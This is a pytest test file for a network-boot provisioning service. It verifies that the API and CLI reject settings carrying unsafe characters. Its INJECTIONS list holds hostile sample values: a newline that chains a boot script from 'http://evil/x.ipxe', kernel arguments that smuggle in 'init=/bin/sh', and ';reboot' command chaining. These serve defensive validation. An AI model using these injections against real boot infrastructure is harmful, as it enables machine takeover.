"""Settings that land in the iPXE script, the kernel command line or a kickstart are refused at
the door when they hold more than one line or a character outside their safe set: the API
answers 422 naming the setting and the character, the CLI one line and a non-zero exit."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from provisioner.store.memory import MemoryStore
from tests.api.conftest import Api, api_settings, open_api
from tests.support.cli import Cli

MAC = "52:54:00:00:50:01"
#: (setting, value, the character the error must name)
INJECTIONS = [
    ("console", "ttyS0\nchain http://evil/x.ipxe", "'\\n'"),
    ("kernel_args", 'quiet" --append="init=/bin/sh', "'\"'"),
    ("kernel_args", "quiet ${next-server}", "'$'"),
    ("kernel_args", "quiet\rinit=/bin/sh", "'\\r'"),
    ("bootfile", "ipxe.efi;reboot", "';'"),
    ("ipxe_script", "ipxe/boot.ipxe.j2\n", "'\\n'"),
    ("image", "compute:1 && x", "' '"),
    ("scheduler_features", "gpu\nNodeName=evil", "'\\n'"),
    ("scheduler_features", "gpu;reboot", "';'"),
    ("power_user", "admin\nx", "'\\n'"),
]
SAFE = {"console": "ttyS0,115200n8", "bootfile": "ipxe/snponly.efi",
        "kernel_args": "quiet ip=dhcp rd.neednet=1 root=live:http://10.0.0.1/x.img net.ifnames=0",
        "ipxe_script": "ipxe/boot.ipxe.j2", "image": "compute:3",
        "scheduler_features": "gpu,ib", "scheduler_partition": "batch"}


@pytest.fixture
async def api(tmp_path: Path) -> AsyncIterator[Api]:
    found, inventory = await open_api(MemoryStore(), api_settings(tmp_path))
    try:
        yield found
    finally:
        await found.client.aclose()
        await inventory.stop()


@pytest.mark.parametrize(("key", "value", "char"), INJECTIONS)
async def test_api_refuses_with_422_naming_setting_and_character(api: Api, key: str,
                                                                 value: str, char: str) -> None:
    created = await api.client.post("/api/v1/nodes", headers=api.admin,
                                    json={"mac": MAC, "name": "n1", "settings": {key: value}})
    assert created.status_code == 422, created.text
    message = created.json()["message"]
    assert f"settings.{key}" in message and f"character {char}" in message, message
    group = await api.client.post("/api/v1/groups", headers=api.admin,
                                  json={"name": "g", "settings": {key: value}})
    assert group.status_code == 422 and f"character {char}" in group.json()["message"]
    assert (await api.client.get("/api/v1/nodes", headers=api.viewer)).json()["items"] == []


async def test_api_accepts_ordinary_values(api: Api) -> None:
    created = await api.client.post("/api/v1/nodes", headers=api.admin,
                                    json={"mac": MAC, "name": "n1", "settings": SAFE})
    assert created.status_code == 201, created.text
    assert created.json()["settings"] == SAFE
    patched = await api.client.patch("/api/v1/nodes/n1", headers=api.operator, json={
        "settings": {**SAFE, "console": "ttyS0\nx"}})
    assert patched.status_code == 422 and "settings.console" in patched.json()["message"]


@pytest.mark.parametrize(("key", "value", "char"), INJECTIONS)
def test_cli_refuses_in_one_line(tmp_path: Path, key: str, value: str, char: str) -> None:
    cli = Cli(tmp_path)
    cli("node", "add", MAC, "--name", "n1")
    line = cli("node", "set", "n1", "--set", f"{key}={value}", code=2)
    assert line.startswith(f"error: settings.{key}: character {char} is not allowed")
    line = cli("group", "add", "g", "--set", f"{key}={value}", code=2)
    assert f"character {char}" in line


def test_cli_accepts_ordinary_values(tmp_path: Path) -> None:
    cli = Cli(tmp_path)
    cli("node", "add", MAC, "--name", "n1", *[a for k, v in SAFE.items()
                                              for a in ("--set", f"{k}={v}")])
    shown = cli.json("node", "show", "n1")
    assert isinstance(shown, dict) and shown["settings"] == SAFE
